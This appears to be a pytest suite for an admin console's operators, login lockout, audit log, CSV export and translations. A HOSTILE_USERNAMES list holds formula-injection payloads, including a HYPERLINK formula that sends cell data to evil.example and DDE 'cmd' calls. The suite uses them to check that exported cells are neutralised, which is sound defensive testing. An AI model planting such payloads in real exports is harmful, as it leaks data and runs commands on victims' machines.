# SPDX-License-Identifier: AGPL-3.0-or-later
"""Operators, the login lockout, the audit log and its CSV export, and the two languages
(fast tier: no service runs)."""

from __future__ import annotations

import csv
import io
import re
import threading
import time
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

from babel.messages.mofile import read_mo
from babel.messages.pofile import read_po
from console_helpers import Clock, Console, csrf_token, first_operator, login, unique

OPERATOR_PASSWORD = "Operator-Passw0rd-1"
TRANSLATIONS = Path(__file__).resolve().parents[3] / "admin_console" / "translations"


def add_operator(console: Console, name: str) -> None:
    response = console.post(
        "/operators/", username=name, password=OPERATOR_PASSWORD, confirm=OPERATOR_PASSWORD
    )
    assert response.status_code == 302, response.get_data(as_text=True)


def operator_id_of(console, name: str) -> str:
    row = console.get("/operators/").split(f'data-operator="{name}"')[1]
    return row.split('data-operator-id="')[1].split('"')[0]


def test_added_operator_logs_in_and_removed_one_cannot(app, console):
    name = unique("op")
    add_operator(console, name)
    other = app.test_client()
    assert login(other, name, OPERATOR_PASSWORD).status_code == 302
    operator_id = operator_id_of(console, name)
    console.confirm(f"/operators/{operator_id}/remove")
    assert other.get("/users/").status_code == 302  # its session ends too
    assert login(app.test_client(), name, OPERATOR_PASSWORD).status_code == 401


def test_operator_password_rules(console):
    response = console.post("/operators/", username="short", password="short", confirm="short")
    assert response.status_code == 400
    assert "Field must be between 12 and 256 characters long." in response.get_data(as_text=True)


def test_you_cannot_remove_yourself(app, console):
    from admin_console import db, operators

    with app.app_context():
        me = next(o for o in operators.list_all(db.get_db()) if o.username == "admin")
    assert f"/operators/{me.id}/remove" not in console.get("/operators/")  # no button
    console.confirm(f"/operators/{me.id}/remove")
    assert "you cannot remove yourself" in console.get("/operators/")


def test_five_wrong_passwords_lock_even_the_right_one(app, console):
    name = unique("lock")
    add_operator(console, name)
    client = app.test_client()
    statuses = [login(client, name, "wrong-password").status_code for _ in range(5)]
    assert statuses == [401, 401, 401, 401, 429]
    response = login(client, name, OPERATOR_PASSWORD)
    assert response.status_code == 429
    assert "this account is locked" in response.get_data(as_text=True)
    assert client.get("/users/").status_code == 302
    # Other operators are unaffected, and the attempts are in the audit log.
    audit = console.get(f"/audit/?q={name}")
    assert audit.count("wrong password") == 5 and "locked" in audit


def test_a_good_login_resets_the_count(app, console):
    name = unique("reset")
    add_operator(console, name)
    client = app.test_client()
    for _ in range(4):
        login(client, name, "wrong-password")
    assert login(client, name, OPERATOR_PASSWORD).status_code == 302
    fresh = app.test_client()
    assert [login(fresh, name, "wrong").status_code for _ in range(4)] == [401] * 4


def test_audit_search_and_csv_export(console):
    name = unique("audited")
    add_operator(console, name)
    page = console.get(f"/audit/?q={name}")
    assert "operator.add" in page and name in page
    export = console.client.get(f"/audit/export.csv?q={name}")
    assert export.mimetype == "text/csv"
    rows = list(csv.reader(io.StringIO(export.get_data(as_text=True))))
    assert rows[0] == ["time_utc", "operator", "action", "target", "result", "detail"]
    assert rows[1][1:5] == ["admin", "operator.add", name, "ok"]


def test_pager_links_keep_the_query_without_letting_it_build_the_url(app, console, monkeypatch):
    """Query keys such as `endpoint` or `_external` are query, never url_for arguments."""
    from admin_console.audit import views

    monkeypatch.setattr(views, "PAGE_SIZE", 2)
    name = unique("paged")
    add_operator(console, name)
    for _ in range(2):
        login(app.test_client(), name, "wrong-password")  # two more entries about name
    first = console.get(f"/audit/?q={name}&endpoint=x&_external=1&_anchor=top")
    following = re.search(r'rel="next" href="([^"]+)"', first).group(1).replace("&amp;", "&")
    assert following.startswith("/audit/?") and "#" not in following
    assert all(arg in following for arg in ("endpoint=x", "_external=1", "_anchor=top", "from=2"))
    second = console.get(following)
    assert "1–2 of 3" in first and "3–3 of 3" in second
    back = re.search(r'rel="prev" href="([^"]+)"', second).group(1).replace("&amp;", "&")
    assert "from=0" in back and "endpoint=x" in back


def test_entries_past_the_retention_go_when_the_next_one_is_written(app, console, monkeypatch):
    from admin_console import db
    from admin_console.audit import store

    monkeypatch.setitem(app.config, "AUDIT_RETENTION_DAYS", 30)
    name, day = unique("aged"), 86400
    with app.app_context():
        for action, age_days in (("test.expired", 31), ("test.kept", 29)):
            store.add(
                db.get_db(),
                operator="admin",
                action=action,
                target=name,
                ok=True,
                at=time.time() - age_days * day,
            )
    assert "test.expired" in console.get(f"/audit/?q={name}")

    add_operator(console, unique("next"))  # any action writes an entry

    page = console.get(f"/audit/?q={name}")
    assert "test.expired" not in page and "test.kept" in page


# Each of OWASP's formula prefixes, as an anonymous visitor types them as a username.
HOSTILE_USERNAMES = (
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


def test_no_exported_cell_is_a_formula_whatever_a_visitor_typed(app, console):
    visitor = app.test_client()
    for username in HOSTILE_USERNAMES:
        assert login(visitor, username, "any-password").status_code == 401
    export = console.client.get("/audit/export.csv?q=login")
    rows = list(csv.reader(io.StringIO(export.get_data(as_text=True), newline="")))
    exported = {row[3]: row for row in rows[1:] if row[2] == "login" and row[4] == "failed"}
    assert set(exported) == {"'" + username for username in HOSTILE_USERNAMES}
    for row in exported.values():
        assert row[1] == row[3]  # the operator column holds the typed name too, neutralised
    # What no spreadsheet evaluates is kept as it is.
    assert ["time_utc", "operator", "action", "target", "result", "detail"] == rows[0]
    assert "wrong password" in {row[5] for row in exported.values()}


def test_language_from_the_browser_then_the_operators_choice(app):
    client = app.test_client()
    french = client.get("/login", headers={"Accept-Language": "fr-FR,fr;q=0.9,en;q=0.5"})
    assert '<html lang="fr">' in french.get_data(as_text=True)
    assert "Se connecter" in french.get_data(as_text=True)
    token = csrf_token(french.get_data(as_text=True))
    client.post("/language", data={"csrf_token": token, "lang": "en", "next": "/login"})
    english = client.get("/login", headers={"Accept-Language": "fr"}).get_data(as_text=True)
    assert '<html lang="en">' in english and "Log in" in english


def test_compiled_catalogue_matches_the_po_file():
    for po_path in TRANSLATIONS.glob("*/LC_MESSAGES/messages.po"):
        with open(po_path, "rb") as po, open(po_path.with_suffix(".mo"), "rb") as mo:
            source, compiled = read_po(po), read_mo(mo)
        expected = {m.id: m.string for m in source if m.id and m.string and not m.fuzzy}
        assert {m.id: m.string for m in compiled if m.id} == expected, (
            f"{po_path.with_suffix('.mo')} is stale: run pybabel compile -d {TRANSLATIONS}"
        )
        untranslated = [m.id for m in source if m.id and not m.string]
        assert not untranslated, f"untranslated in {po_path}: {untranslated[:5]}"


# The lockout: per username and client, a ceiling per username, atomic -------------------------
def from_address(app, address: str):
    client = app.test_client()
    client.environ_base["REMOTE_ADDR"] = address
    return client


def test_a_lock_set_from_one_address_does_not_lock_out_the_others(app, console):
    """Anyone can lock "admin" (a name everybody knows) for themselves only."""
    credentials = first_operator(app)
    attacker = from_address(app, "203.0.113.7")
    statuses = [login(attacker, "admin", "wrong-password").status_code for _ in range(5)]
    assert statuses == [401, 401, 401, 401, 429]
    assert login(attacker, "admin", credentials["password"]).status_code == 429
    elsewhere = login(from_address(app, "198.51.100.20"), "admin", credentials["password"])
    assert elsewhere.status_code == 302


def test_many_addresses_together_lock_the_username_everywhere(app, console):
    from admin_console import db, lockout

    name = unique("spread")
    add_operator(console, name)

    def wrong_passwords_from(address: str) -> None:  # as many as one address may try
        with app.app_context():
            for _ in range(lockout.MAX_FAILURES):
                lockout.guarded(
                    db.get_db(), username=name, client=address, verify=lambda: None, now=time.time()
                )

    addresses = lockout.MAX_FAILURES_ANYWHERE // lockout.MAX_FAILURES
    for n in range(addresses - 1):
        wrong_passwords_from(f"198.51.100.{n}")
    assert login(from_address(app, "192.0.2.250"), name, OPERATOR_PASSWORD).status_code == 302
    wrong_passwords_from("198.51.100.250")
    response = login(from_address(app, "192.0.2.251"), name, OPERATOR_PASSWORD)
    assert response.status_code == 429
    assert "this account is locked" in response.get_data(as_text=True)


def test_one_ipv6_network_is_one_client():
    from admin_console.lockout import client_key

    assert client_key("2001:db8:1:2::1") == client_key("2001:db8:1:2:ffff::9")
    assert client_key("2001:db8:1:2::1") != client_key("2001:db8:1:3::1")
    assert client_key("::ffff:192.0.2.1") == client_key("192.0.2.1") == "192.0.2.1"


def test_the_lock_ends_after_a_quarter_of_an_hour_and_old_attempts_are_deleted(app, console):

    from admin_console import db

    app.config["CLOCK"] = clock = Clock()
    name, other = unique("later"), unique("other")
    add_operator(console, name)
    client = app.test_client()
    assert [login(client, name, "wrong").status_code for _ in range(5)][-1] == 429
    clock.advance(minutes=14)
    assert login(client, name, OPERATOR_PASSWORD).status_code == 429

    def attempts_of(username: str) -> int:
        with app.app_context():
            return (
                db.get_db()
                .execute("SELECT COUNT(*) FROM login_attempts WHERE username = ?", (username,))
                .fetchone()[0]
            )

    assert attempts_of(name) == 5
    clock.advance(minutes=1.1)
    login(app.test_client(), other, "wrong")  # any attempt deletes those past the window
    assert attempts_of(name) == 0 and attempts_of(other) == 1
    assert login(client, name, OPERATOR_PASSWORD).status_code == 302


def test_concurrent_guesses_are_counted_before_any_is_checked(app, console):
    name, guesses = unique("race"), 12
    add_operator(console, name)
    clients = [app.test_client() for _ in range(guesses)]
    tokens = [csrf_token(c.get("/login").get_data(as_text=True)) for c in clients]
    start = threading.Barrier(guesses)

    def guess(n: int) -> int:
        start.wait()
        return (
            clients[n]
            .post(
                "/login", data={"csrf_token": tokens[n], "username": name, "password": f"wrong{n}"}
            )
            .status_code
        )

    with ThreadPoolExecutor(max_workers=guesses) as pool:
        statuses = list(pool.map(guess, range(guesses)))
    assert set(statuses) <= {401, 429} and statuses.count(401) <= 4
    audit = console.get(f"/audit/?q={name}")
    # Only five passwords were ever checked; every other guess was refused unchecked.
    assert audit.count(">wrong password<") == 5 and audit.count(">locked<") == guesses - 5


# One's own password ---------------------------------------------------------------------------
NEW_PASSWORD = "Chosen-Passw0rd-2"


def change_password(console: Console, current: str, new: str, confirm: str | None = None):
    return console.post(
        "/operators/password",
        current=current,
        password=new,
        confirm=new if confirm is None else confirm,
    )


def test_an_operator_changes_their_own_password(app, console):
    name = unique("own")
    add_operator(console, name)
    me = Console(app, name, OPERATOR_PASSWORD)
    assert "My password" in me.get("/operators/password")
    wrong = change_password(me, "Not-the-Passw0rd", NEW_PASSWORD)
    assert wrong.status_code == 400
    assert "this is not your current password" in wrong.get_data(as_text=True)
    weak = change_password(me, OPERATOR_PASSWORD, "weakpassword1").get_data(as_text=True)
    assert "the password lacks an upper-case letter" in weak
    same = change_password(me, OPERATOR_PASSWORD, OPERATOR_PASSWORD).get_data(as_text=True)
    assert "the new password must differ from the current one" in same
    assert "the passwords differ" in change_password(
        me, OPERATOR_PASSWORD, NEW_PASSWORD, "Other-Passw0rd-3"
    ).get_data(as_text=True)
    no_csrf = me.client.post(
        "/operators/password",
        data={"current": OPERATOR_PASSWORD, "password": NEW_PASSWORD, "confirm": NEW_PASSWORD},
    )
    assert no_csrf.status_code == 400
    assert login(app.test_client(), name, OPERATOR_PASSWORD).status_code == 302  # unchanged
    assert change_password(me, OPERATOR_PASSWORD, NEW_PASSWORD).status_code == 302
    assert login(app.test_client(), name, OPERATOR_PASSWORD).status_code == 401
    assert login(app.test_client(), name, NEW_PASSWORD).status_code == 302
    audit = console.get(f"/audit/?q={name}")
    assert audit.count('data-action="operator.password"') == 2 and "wrong current password" in audit
    # Only the first operator's generated file is theirs to delete.
    assert Path(app.config["FIRST_OPERATOR_FILE"]).exists()


def test_wrong_current_passwords_count_towards_the_lock(app, console):
    name = unique("guess")
    add_operator(console, name)
    me = Console(app, name, OPERATOR_PASSWORD)
    statuses = [
        change_password(me, f"Wrong-Passw0rd-{n}", NEW_PASSWORD).status_code for n in range(5)
    ]
    assert statuses == [400, 400, 400, 400, 400]
    locked = change_password(me, OPERATOR_PASSWORD, NEW_PASSWORD)
    assert locked.status_code == 429 and "this account is locked" in locked.get_data(as_text=True)
    assert login(app.test_client(), name, OPERATOR_PASSWORD).status_code == 429


def test_the_first_operators_new_password_retires_the_generated_file(app, console):
    generated = Path(app.config["FIRST_OPERATOR_FILE"])
    hint = app.test_client().get("/login").get_data(as_text=True)
    assert "data-first-operator" in hint and str(generated) in hint
    credentials = first_operator(app)
    assert change_password(console, credentials["password"], NEW_PASSWORD).status_code == 302
    assert not generated.exists()
    assert "data-first-operator" not in app.test_client().get("/login").get_data(as_text=True)
    assert login(app.test_client(), "admin", NEW_PASSWORD).status_code == 302
    assert f"deleted {generated}" in console.get("/audit/?q=operator.password")
    # A restart does not write a new one: the operator exists.
    from admin_console import create_app

    create_app(dict(app.config))
    assert not generated.exists()
